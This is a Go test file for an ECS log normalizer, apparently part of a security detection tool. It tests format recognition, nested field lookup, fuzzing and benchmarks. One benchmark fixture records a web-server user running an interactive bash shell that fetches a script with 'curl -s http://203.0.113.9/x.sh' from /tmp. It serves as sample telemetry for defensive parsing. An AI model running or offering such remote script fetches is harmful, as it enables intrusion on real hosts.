// SPDX-FileCopyrightText: 2026 The Gambeson Authors
// SPDX-License-Identifier: Apache-2.0

package ecs

import (
	"errors"
	"testing"

	"gambeson/event"
	"gambeson/normalize"
	"gambeson/normalize/normalizetest"
)

func TestAccept(t *testing.T) { normalizetest.Accept(t, New) }

func open(tb testing.TB, extra ...string) (*Format, *event.Event) {
	tb.Helper()
	f := event.NewFields()
	c := New(f)
	for _, name := range extra {
		f.Native(name)
	}
	if err := f.Freeze(); err != nil {
		tb.Fatal(err)
	}
	return c, event.New(f)
}

func parse(tb testing.TB, e *event.Event, doc string) {
	tb.Helper()
	e.Reset([]byte(doc))
	if err := e.ParseJSON(); err != nil {
		tb.Fatal(err)
	}
}

func TestClaim(t *testing.T) {
	c, e := open(t)
	for doc, want := range map[string]normalize.Confidence{
		`{"@timestamp":"x","ecs":{"version":"8"}}`:                         normalize.Sure,
		`{"@timestamp":"x","ecs.version":"8"}`:                             normalize.Sure,
		`{"_source":{"@timestamp":"x","ecs":{"version":"8"}}}`:             normalize.Sure,
		`{"@timestamp":"x","event":{"category":["web"]}}`:                  normalize.Likely,
		`{"@timestamp":"x","ecs":{"version":"8"},"winlog":{"event_id":1}}`: normalize.Likely,
		`{"@timestamp":"x","event_data":{},"log_name":"Security"}`:         normalize.No,
		`{"@timestamp":"x","message":"a line"}`:                            normalize.No,
		`{"ecs":{"version":"8"}}`:                                          normalize.No,
	} {
		parse(t, e, doc)
		if got := c.Claim(e); got != want {
			t.Errorf("%s: %d, want %d", doc, got, want)
		}
	}
}

// TestNames shows that names that rules use find their values, however the
// keys are nested.
func TestNames(t *testing.T) {
	want := map[string]string{
		"process.command_line": "id -u", "CommandLine": "id -u", "Image": "/usr/bin/id", "User": "mara", "DestinationIp": "192.0.2.1",
	}
	var extra []string
	for name := range want {
		extra = append(extra, name)
	}
	c, e := open(t, extra...)
	for _, doc := range []string{
		`{"@timestamp":"2026-01-01T00:00:00Z","process":{"command_line":"id -u","executable":"/usr/bin/id"},"user":{"name":"mara"},"destination":{"ip":"192.0.2.1"}}`,
		`{"@timestamp":"2026-01-01T00:00:00Z","process.command_line":"id -u","process.executable":"/usr/bin/id","user.name":"mara","destination.ip":"192.0.2.1"}`,
		`{"_source":{"@timestamp":"2026-01-01T00:00:00Z","process":{"command_line":"id -u","executable":"/usr/bin/id"},"user.name":"mara","destination":{"ip":"192.0.2.1"}}}`,
	} {
		parse(t, e, doc)
		if err := c.Read(e); err != nil {
			t.Fatal(err)
		}
		for name, w := range want {
			if got := string(e.Get(e.Fields().Native(name)).Text()); got != w {
				t.Errorf("%s: %s is %q, want %q", doc, name, got, w)
			}
		}
	}
}

func FuzzRead(f *testing.F) {
	f.Add([]byte(record1))
	f.Add([]byte(`{"@timestamp":1700000000,"event":{"category":"network","type":[["start"]]},"dns":{"question":{"name":"x"},"answers":[{"data":[]}]},"host":{"name":"h"},"source":[{"ip":7}]}`))
	f.Add([]byte(`{"@timestamp":"2026-01-01T00:00:00Z","event.category":["web"],"http":{"request":{"method":"verylongmethod"}}}`))
	c, e := open(f)
	f.Fuzz(func(t *testing.T, raw []byte) {
		e.Reset(raw)
		if e.ParseJSON() != nil {
			return
		}
		if err := c.Read(e); err != nil && !errors.Is(err, normalize.ErrMalformed) {
			t.Errorf("not marked as malformed: %v", err)
		}
	})
}

func BenchmarkRead(b *testing.B) {
	c, e := open(b)
	raw := []byte(record1)
	b.SetBytes(int64(len(raw)))
	b.ReportAllocs()
	for b.Loop() {
		e.Reset(raw)
		if err := e.ParseJSON(); err != nil {
			b.Fatal(err)
		}
		if c.Claim(e) != normalize.Sure {
			b.Fatal("not claimed")
		}
		if err := c.Read(e); err != nil {
			b.Fatal(err)
		}
	}
}

const record1 = `{"@timestamp":"2026-03-02T14:01:00.123Z","ecs":{"version":"8.17.0"},"event":{"kind":"event","category":["process"],` +
	`"type":["start"],"action":"exec","dataset":"endpoint.events.process","module":"endpoint","outcome":"success"},"host":{"name":"web01",` +
	`"hostname":"web01","id":"h-1","ip":["10.0.0.5","fe80::1"],"os":{"type":"linux","name":"Debian GNU/Linux","version":"13"}},` +
	`"process":{"pid":4311,"entity_id":"NGM0-4311","name":"curl","executable":"/usr/bin/curl","command_line":"curl -s http://203.0.113.9/x.sh",` +
	`"args":["curl","-s"],"working_directory":"/tmp","hash":{"sha256":"0000000000000000000000000000000000000000000000000000000000000000"},` +
	`"start":"2026-03-02T14:00:59.900Z","parent":{"pid":4300,"entity_id":"NGM0-4300","name":"bash","executable":"/usr/bin/bash",` +
	`"command_line":"bash -i"}},"user":{"name":"www-data","id":"33"},"agent":{"name":"web01","type":"endpoint","version":"8.17.0"}}`
